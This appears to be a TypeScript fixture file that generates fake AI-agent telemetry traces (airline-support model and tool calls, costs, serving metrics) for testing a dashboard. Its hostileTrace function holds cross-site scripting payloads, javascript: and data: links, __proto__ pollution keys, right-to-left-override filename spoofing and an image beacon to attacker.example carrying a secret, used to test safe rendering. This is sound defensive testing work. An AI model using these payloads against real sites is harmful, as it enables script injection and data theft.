import type {
  Json,
  MessageContent,
  Span,
  SpanDetail,
  SpanOutline,
} from '../../../dashboards/web/src/api/client.ts';
import { type Conversation, text } from './conversations.ts';
import { type FakeTrace, makeDetail, makeSpan } from './fake-spans.ts';
import { createRandom, hexId } from './random.ts';

const models = ['gpt-4o', 'gpt-4o', 'gpt-4o-mini', 'llama-3.3-70b'] as const;
const dollars_per_token = { 'gpt-4o': 2.5e-6, 'gpt-4o-mini': 1.5e-7, 'llama-3.3-70b': null } as const;

/** One trace for each conversation, spread over the day before `now`. */
export function tracesOf(conversations: readonly Conversation[], now: number): FakeTrace[] {
  const random = createRandom(7);
  return conversations.map((conversation, index) => {
    const age_ms = (index + random()) * ((20 * 3_600_000) / conversations.length);
    return traceOf(conversation, { index, start_ms: Math.round(now - 60_000 - age_ms), random });
  });
}

interface TraceOptions {
  readonly index: number;
  readonly start_ms: number;
  readonly random: () => number;
}

/** An agent that calls a model for each answer and a tool for each call in it. */
function traceOf({ user_id, messages }: Conversation, { index, start_ms, random }: TraceOptions): FakeTrace {
  const model = models[index % models.length]!;
  const common = {
    trace_id: hexId(random, 32),
    conversation_id: `conversation-${index}`,
    user_id,
    service: index % 3 === 2 ? 'airline-support-canary' : 'airline-support',
    environment: 'production',
    agent_name: 'airline-agent',
    dialect: 'opentelemetry_genai',
    prompt_name: 'airline-policy',
    prompt_version: index % 4 === 0 ? '2026-11-20' : '2026-11-03',
    deployment_version: '4.12.0',
  };
  const root_id = hexId(random, 16);
  const children: SpanDetail[] = [];
  let clock_ms = start_ms + 4;
  const add = (
    known: Partial<Span> & { name: string; duration_ms: number },
    ...contents: MessageContent[][]
  ) => {
    const span = makeSpan({
      ...common,
      span_id: hexId(random, 16),
      parent_span_id: root_id,
      start_time: new Date(clock_ms).toISOString(),
      ...known,
    });
    children.push(makeDetail(span, ...contents));
    clock_ms += Math.ceil(known.duration_ms) + 3;
  };
  messages.forEach((message, place) => {
    if (message.role !== 'assistant') return;
    add(modelCall({ model, message, before: messages.slice(0, place), random }), messages.slice(0, place), [
      message,
    ]);
    for (const call of toolCalls(message)) add(toolCall(call, { clock_ms, random }));
  });
  const root = makeSpan({
    ...common,
    span_id: root_id,
    name: 'invoke_agent airline-agent',
    operation: 'invoke_agent',
    start_time: new Date(start_ms).toISOString(),
    duration_ms: clock_ms - start_ms,
    status: children.some(({ span }) => span.status === 'error') ? 'error' : 'ok',
    attributes: { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'airline-agent' },
  });
  return { trace_id: common.trace_id, spans: [makeDetail(root), ...children] };
}

interface ModelCallOptions {
  readonly model: (typeof models)[number];
  readonly message: MessageContent;
  readonly before: readonly MessageContent[];
  readonly random: () => number;
}

function modelCall({ model, message, before, random }: ModelCallOptions) {
  const total_input = Math.ceil(JSON.stringify(before).length / 4);
  const cache_read_tokens = before.length > 4 ? Math.floor(total_input * 0.7) : null;
  const input_tokens = total_input - (cache_read_tokens ?? 0);
  const output_tokens = Math.ceil(JSON.stringify(message).length / 4);
  const price = dollars_per_token[model];
  const ttft_ms = 180 + random() * 400;
  const is_local = price === null;
  return {
    name: `chat ${model}`,
    operation: 'chat',
    is_leaf: true,
    status: 'ok',
    provider: is_local ? 'vllm' : 'openai',
    request_model: model,
    response_model: is_local ? model : `${model}-2024-08-06`,
    response_id: `chatcmpl-${hexId(random, 12)}`,
    finish_reasons: [toolCalls(message).length > 0 ? 'tool_calls' : 'stop'],
    input_tokens,
    cache_read_tokens,
    output_tokens,
    cost_usd:
      price === null ? null : (input_tokens + (cache_read_tokens ?? 0) / 2 + output_tokens * 4) * price,
    cost_method: price === null ? 'unpriced' : 'computed',
    price_book: price === null ? null : '2026-11-18',
    ttft_ms,
    tpot_ms: 8 + random() * 9,
    duration_ms: ttft_ms + output_tokens * (8 + random() * 9),
    ...(is_local && servingFigures(random)),
    attributes: {
      'gen_ai.operation.name': 'chat',
      'gen_ai.request.model': model,
      'gen_ai.request.temperature': 0,
      'gen_ai.request.max_tokens': 1_024,
      'gen_ai.usage.input_tokens': total_input,
      'gen_ai.usage.output_tokens': output_tokens,
      'server.address': is_local ? 'vllm-2.internal' : 'api.openai.com',
    },
  };
}

function servingFigures(random: () => number) {
  return {
    queue_ms: random() * 40,
    prefill_ms: 60 + random() * 90,
    decode_ms: 400 + random() * 900,
    batch_size: 8 + Math.floor(random() * 20),
    kv_cache_usage: 0.4 + random() * 0.4,
    requests_running: 12,
    requests_waiting: 1,
    gpu_utilization: 0.83,
    gpu_power_w: 412,
    energy_j: 96.4,
    energy_method: 'share of power',
    serving_source: 'vllm /metrics',
  };
}

interface Call {
  readonly id: string;
  readonly name: string;
  readonly arguments: Json;
}

function toolCalls(message: MessageContent): Call[] {
  return message.parts.filter(
    (part) => (part as { type?: string }).type === 'tool_call',
  ) as unknown as Call[];
}

function toolCall(call: Call, { clock_ms, random }: { clock_ms: number; random: () => number }) {
  const fails = random() < 0.06;
  return {
    name: `execute_tool ${call.name}`,
    operation: 'execute_tool',
    tool_name: call.name,
    tool_call_id: call.id,
    duration_ms: 12 + random() * 240,
    status: fails ? 'error' : 'ok',
    error_type: fails ? 'TimeoutError' : null,
    attributes: {
      'gen_ai.tool.name': call.name,
      'gen_ai.tool.call.id': call.id,
      'gen_ai.tool.call.arguments': JSON.stringify(call.arguments),
    },
    events: fails
      ? [
          {
            name: 'exception',
            time: new Date(clock_ms + 12).toISOString(),
            attributes: {
              'exception.type': 'TimeoutError',
              'exception.message': 'The reservation service did not answer within 200 ms.',
              'exception.stacktrace':
                'TimeoutError: The reservation service did not answer\n    at callTool (agent.js:41:11)',
            },
          },
        ]
      : [],
  };
}

export const hostile_trace_id = 'bad0'.repeat(8);

/** A trace whose every text would do harm where it was taken for anything but text. */
export function hostileTrace(now: number): FakeTrace {
  const script = '<script>document.title = "taken over"</script>';
  const hostile = [
    script,
    '<img src=x onerror="document.title=1">',
    '[click me](javascript:document.title=1)',
    '[data](data:text/html,<script>1</script>)',
    '![a pixel](https://attacker.example/pixel.png?secret=1)',
    '[a page](https://docs.example/page)',
    'turned \u202egnp.exe\u202c around',
  ].join('\n\n');
  const common = {
    trace_id: hostile_trace_id,
    service: script,
    start_time: new Date(now - 90_000).toISOString(),
    duration_ms: 420,
  };
  const root = makeSpan({
    ...common,
    span_id: 'a'.repeat(16),
    name: `${script} \u202etrace`,
    operation: 'constructor',
    agent_name: '__proto__',
    attributes: { '__proto__.polluted': script, 'javascript:alert(1)': '\u2066hidden\u2069' },
  });
  const call = makeSpan({
    ...common,
    span_id: 'b'.repeat(16),
    parent_span_id: 'a'.repeat(16),
    name: 'chat <b>model</b>',
    operation: 'chat',
    is_leaf: true,
    response_model: script,
    conversation_id: 'javascript:alert(1)',
  });
  const odd: MessageContent = {
    role: 'assistant',
    parts: [{ type: 'hologram', shape: script }, 'a bare string', null, { type: 'tool_call', name: 7 }],
  };
  return {
    trace_id: hostile_trace_id,
    spans: [makeDetail(root), makeDetail(call, [text('user', hostile)], [text('assistant', hostile), odd])],
  };
}

export const big_trace_id = 'b16b'.repeat(8);

/** The outline of a trace with many spans: broad, deep in one place, with an orphan. */
export function bigOutline(spans: number): SpanOutline[] {
  const random = createRandom(11);
  return Array.from({ length: spans }, (_, index) => {
    const parent = index < 300 ? index - 1 : Math.floor(random() * index);
    return {
      span_id: index.toString(16).padStart(16, '0'),
      parent_span_id:
        index === 0 ? null : index === 500 ? 'f'.repeat(16) : parent.toString(16).padStart(16, '0'),
      name: `step ${index}`,
      operation: ['chat', 'execute_tool', null, 'retrieval'][index % 4] ?? null,
      service: 'crawler',
      dialect: null,
      start_time: new Date(1_795_000_000_000 + index).toISOString(),
      start_us: index * 1_000,
      duration_ms: 1 + random() * 400,
      status: index % 997 === 0 ? 'error' : 'ok',
      error_type: null,
      model: index % 4 === 0 ? 'gpt-4o' : null,
      tool_name: null,
      agent_name: null,
      input_tokens: index % 4 === 0 ? 100 : null,
      output_tokens: index % 4 === 0 ? 20 : null,
      cost_usd: index % 4 === 0 ? 0.001 : null,
      cost_method: index % 4 === 0 ? 'computed' : null,
      is_leaf: index % 4 === 0,
      ttft_ms: null,
    };
  });
}

export const late_trace_id = '1a7e'.repeat(8);

/** The outline of a trace whose second call begins late and takes the rest of the time. */
export function lateOutline(): SpanOutline[] {
  const [root, call] = bigOutline(5).slice(3) as [SpanOutline, SpanOutline];
  return [
    { ...root, parent_span_id: null, start_us: 0, duration_ms: 100 },
    { ...call, parent_span_id: root.span_id, start_us: 41_000, duration_ms: 59, cost_usd: 0.0000438 },
  ];
}
